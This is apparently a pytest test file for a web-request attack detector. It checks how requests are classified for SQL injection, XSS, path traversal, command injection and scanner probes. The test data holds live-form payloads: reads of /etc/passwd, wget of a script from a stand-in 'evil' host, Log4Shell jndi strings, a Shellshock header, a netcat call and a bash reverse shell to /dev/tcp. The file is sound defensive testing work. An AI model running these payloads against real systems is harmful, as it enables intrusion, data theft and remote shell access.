"""node.signatures.attack_signs: signs per request part, benign requests, hostile input."""

import importlib
import json

import pytest

from node.signatures import ATTACK_SIGNS, attack_signs
from node.signatures.attack_signs import has_cmd_injection

# node.signatures re-exports the function under the module's own name.
attack_signs_module = importlib.import_module("node.signatures.attack_signs")

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36"
)
BROWSER_HEADERS = [
    ("host", "api.example.com"),
    ("user-agent", CHROME),
    ("accept", "application/json, text/plain, */*"),
    ("accept-language", "fr-FR,fr;q=0.9,en-US;q=0.8"),
    ("cookie", "_ga=GA1.2.1234567.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig"),
    ("referer", "https://shop.example.com/search?q=o%27reilly+books&sort=price"),
    ("x-forwarded-for", "203.0.113.5, 10.0.0.1"),
]
COOKIEBOT = (
    "CookieConsent={stamp:%27-1%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:true"
    "%2Cmarketing:true%2Cmethod:%27explicit%27%2Cver:1%2Cutc:1700000000000%2Cregion:%27de%27}"
)
JSON = [("content-type", "application/json")]
FORM = [("content-type", "application/x-www-form-urlencoded")]

BENIGN = [
    ("/api/products/42", "", BROWSER_HEADERS, b""),
    ("/api/search", "q=it%27s+a+test&page=2", BROWSER_HEADERS, b""),
    ("/api/search", "q=Tom+%26+Jerry", [], b""),
    ("/api/items", "ids=1,2,3&sort=-created_at&filter=name%20eq%20%27x%27", [], b""),
    ("/odata/Products", "$filter=substring(Name,1,2) eq 'ab'", [], b""),
    ("/wiki/Foo_(bar)", "", [], b""),
    ("/api/users/o'brien", "", [], b""),
    ("/api/v1/users/550e8400-e29b-41d4-a716-446655440000", "", [], b""),
    ("/api/x", "", [("cookie", COOKIEBOT)], b""),
    ("/api/x", "", {"User-Agent": CHROME, "Referer": "https://example.com/"}, b""),
    (
        "/api/orders",
        "",
        JSON,
        json.dumps(
            {
                "name": "O'Brien",
                "note": "Tom & Jerry; cat lovers -- welcome",
                "items": [1, 2, 3],
                "html": "<b>hi</b>",
                "path": "../images/logo.png",
                "when": "2024-01-01T00:00:00Z",
            }
        ).encode(),
    ),
    ("/api/code", "", JSON, b'{"src": "function () { return $(\'#x\').val(); }"}'),
    (
        "/api/comments",
        "",
        [("content-type", "text/plain")],
        b"I can't believe it's -- really -- working; isn't it? SELECT the best one.",
    ),
    ("/api/login", "", FORM, b"username=jane&password=p%40ss%27word%21"),
    ("/api/login", "", [], b"username=jane&password=secret"),
    ("/api/upload", "", [("content-type", "text/csv")], b"id,name\n1,Widget (blue)\n2,Gadget\n"),
    # an HTTP library is a customer's program, not an attack tool; URLs as Referers
    ("/api/x", "", [("user-agent", "python-requests/2.31.0"), ("user-agent", "curl/8.5.0")], b""),
    ("/api/x", "", [("referer", "https://shop.example/products/a-b_c(1)?x=1&ls")], b""),
    ("/api/x", "", [("referer", "android-app://com.google.android.gm/")], b""),
    ("/api/x", "", [("referer", "https://x/p?q=%3Cb%3Ehi%3C/b%3E#top")], b""),
]


@pytest.mark.parametrize(("path", "query", "headers", "body"), BENIGN)
def test_benign_has_no_signs(path, query, headers, body):
    assert attack_signs(path, query, headers, body) == frozenset()


ATTACKS = [
    # SQL injection: query, path segment, cookie, referer, JSON body, form body
    ("/api/users", "id=1%27%20or%20%271%27=%271", [], b"", {"sqli"}),
    ("/api/users", "id=1+union+select+password+from+users--", [], b"", {"sqli"}),
    ("/api/users/1' or '1'='1", "", [], b"", {"sqli", "scanner_probe"}),
    ("/api/x", "", [("cookie", "id=1%27%20union%20select%20null--")], b"", {"sqli"}),
    ("/api/x", "", [("referer", "https://x/?q=1%27+or+1%3D1--")], b"", {"sqli"}),
    ("/api/login", "", JSON, b'{"username": "admin\' --", "password": "x"}', {"sqli"}),
    ("/api/login", "", FORM, b"username=admin%27+or+%271%27%3D%271&password=x", {"sqli"}),
    ("/odata/P", "$filter=Name eq 'a' union select password from users", [], b"", {"sqli"}),
    # XSS
    ("/search", "q=<script>alert(1)</script>", [], b"", {"xss"}),
    ("/search", "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", [], b"", {"xss"}),
    ("/api/x", "", [("referer", "https://x/?q=%3Csvg/onload=alert(1)%3E")], b"", {"xss"}),
    ("/api/x", "", [("user-agent", "<script>alert(1)</script>")], b"", {"xss"}),
    ("/api/comments", "", JSON, b'{"body": "<iframe src=javascript:alert(1)>"}', {"xss"}),
    # ... anywhere in the Referer, not only its query (issue 12: these passed the graylist)
    ("/api/x", "", [("referer", "https://shop.example/<script>alert(1)</script>")], b"",
     {"xss"}),
    ("/api/x", "", [("referer", "https://x/%3Csvg%20onload%3Dalert(1)%3E")], b"", {"xss"}),
    ("/api/x", "", [("referer", "https://x/#<img src=x onerror=alert(1)>")], b"", {"xss"}),
    # path traversal
    ("/download", "file=../../../../etc/passwd", [], b"", {"path_traversal"}),
    ("/../../etc/passwd", "", [], b"", {"path_traversal", "scanner_probe"}),
    ("/static/..%2f..%2fapp.py", "", [], b"", {"path_traversal", "scanner_probe"}),
    ("/api/files", "", JSON, b'{"name": "../../../../etc/shadow"}', {"path_traversal"}),
    # command injection
    ("/ping", "host=127.0.0.1;cat%20/etc/passwd", [], b"", {"cmd_injection", "path_traversal"}),
    ("/ping", "host=127.0.0.1|id", [], b"", {"cmd_injection"}),
    ("/ping", "host=$(whoami)", [], b"", {"cmd_injection"}),
    ("/ping", "host=`id`", [], b"", {"cmd_injection"}),
    ("/ping", "host=x%26%26wget%20http://evil/x.sh", [], b"", {"cmd_injection"}),
    ("/ping", "host=x;${IFS}cat${IFS}/etc/hosts", [], b"", {"cmd_injection", "path_traversal"}),
    # (an exploit sent as the agent is also an attack tool's agent)
    ("/", "", [("user-agent", "${jndi:ldap://evil/a}")], b"", {"cmd_injection", "scanner_probe"}),
    ("/", "", [("x-api-version", "${${lower:j}ndi:ldap://evil/a}")], b"", {"cmd_injection"}),
    ("/", "", [("x-api-version", "%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")], b"", {"cmd_injection"}),
    ("/", "q=${jndi:dns://evil/a}", [], b"", {"cmd_injection"}),
    (
        "/cgi-bin/status",
        "",
        [("user-agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")],
        b"",
        {"cmd_injection", "scanner_probe"},
    ),
    ("/api/run", "", JSON, b'{"cmd": "ls; rm -rf /tmp/x"}', {"cmd_injection"}),
    # scanner probes: whatever else the request carries
    ("/.env", "", [], b"", {"scanner_probe"}),
    ("/wp-login.php", "", [], b"", {"scanner_probe"}),
    ("/phpmyadmin/index.php", "", BROWSER_HEADERS, b"", {"scanner_probe"}),
    # an attack tool's own agent, on any path (issue 12: sqlmap passed the graylist)
    ("/api/items", "id=1", [("user-agent", "sqlmap/1.7")], b"", {"scanner_probe"}),
    ("/api/items", "", [("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b"",
     {"scanner_probe"}),
    ("/", "", [("user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                              "https://nmap.org/book/nse.html)")], b"", {"scanner_probe"}),
    ("/", "", [("user-agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")],
     b"", {"scanner_probe"}),
]


@pytest.mark.parametrize(("path", "query", "headers", "body", "expected"), ATTACKS)
def test_attacks(path, query, headers, body, expected):
    assert attack_signs(path, query, headers, body) == frozenset(expected)


def test_signs_are_a_closed_set():
    everything = attack_signs(
        "/../.env", "a=1'or'1'='1&b=<script>&c=;cat /etc/passwd", [("user-agent", "sqlmap")]
    )
    assert everything <= ATTACK_SIGNS
    assert everything == ATTACK_SIGNS


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (";cat /etc/passwd", True),
        ("x; ls -la", True),
        ("a && wget http://evil/x", True),
        ("1 | nc 10.0.0.1 4444", True),
        ("$(sleep 5)", True),
        ("`uname`", True),
        ("x|id", True),
        ("x;/bin/sh", True),
        ("x\nwhoami", True),
        ("a;bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", True),
        ("Tom & Jerry", False),
        ("fish & chips; cat lovers", False),
        ("R&D; see you", False),
        ("jQuery $(document).ready", False),
        ("a|b|c", False),
        ("price: 5; qty: 2", False),
        ("", False),
    ],
)
def test_has_cmd_injection(value, expected):
    assert has_cmd_injection(value) is expected


@pytest.mark.parametrize(
    "headers",
    [
        [("user-agent", CHROME)],
        {"user-agent": CHROME},
        [(b"user-agent", b"curl/8")],
        [("only-one-item",)],  # malformed: ignored, no exception
        None,
        42,
    ],
)
def test_header_shapes(headers):
    assert attack_signs("/api/x", "", headers or (), b"") == frozenset()


def test_mitmproxy_style_headers_give_every_cookie():
    class MultiHeaders(dict):
        def items(self, multi=False):
            if multi:
                return [("cookie", "a=1"), ("cookie", "b=1%27%20or%201%3D1--")]
            return super().items()

    assert attack_signs("/api/x", "", MultiHeaders(cookie="a=1"), b"") == {"sqli"}


def test_body_may_be_str():
    assert attack_signs("/api/x", "", JSON, '{"q": "<script>alert(1)</script>"}') == {"xss"}


def test_body_past_the_bound_is_not_read():
    pad = b"a=" + b"x" * attack_signs_module.MAX_BODY
    assert attack_signs("/api/x", "", FORM, pad + b"&b=%27+or+1%3D1--") == frozenset()


HOSTILE = [
    ("/" + "../" * 21846, "", [], b""),
    ("/api/x", "&".join(f"a{i}=%27{i};ls" for i in range(8000)), [], b""),
    ("/api/x", "", [(f"x-h{i}", "${" * 2000) for i in range(200)], b""),
    ("/api/x", "", [("cookie", "; ".join(f"c{i}=%27" for i in range(10000)))], b""),
    ("/api/x", "", [("user-agent", "Mozilla/5.0 (" * 5000)], b""),
    ("/api/x", "", JSON, b"[" * 65536),
    ("/api/x", "", JSON, b'{"a": "' + b"\\u0027" * 20000 + b'"}'),
    ("/api/x", "", JSON, json.dumps({f"k{i}": "' or 1=1 --" for i in range(6000)}).encode()),
    ("/api/x", "", [], b"\xff\xfe" * 40000),
    ("/api/x", "", [], b";" * 100000),
    ("/api/x", "", FORM, b"&" * 100000),
    ("/api/x", "", [("content-type", "text/plain")], b"$(" * 50000),
    ("/api/x", "\udcff" * 5000, [("user-agent", "\udcff" * 5000)], "\udcff" * 5000),
]


@pytest.mark.parametrize(("path", "query", "headers", "body"), HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_input_is_bounded(path, query, headers, body):
    assert attack_signs(path, query, headers, body) <= ATTACK_SIGNS
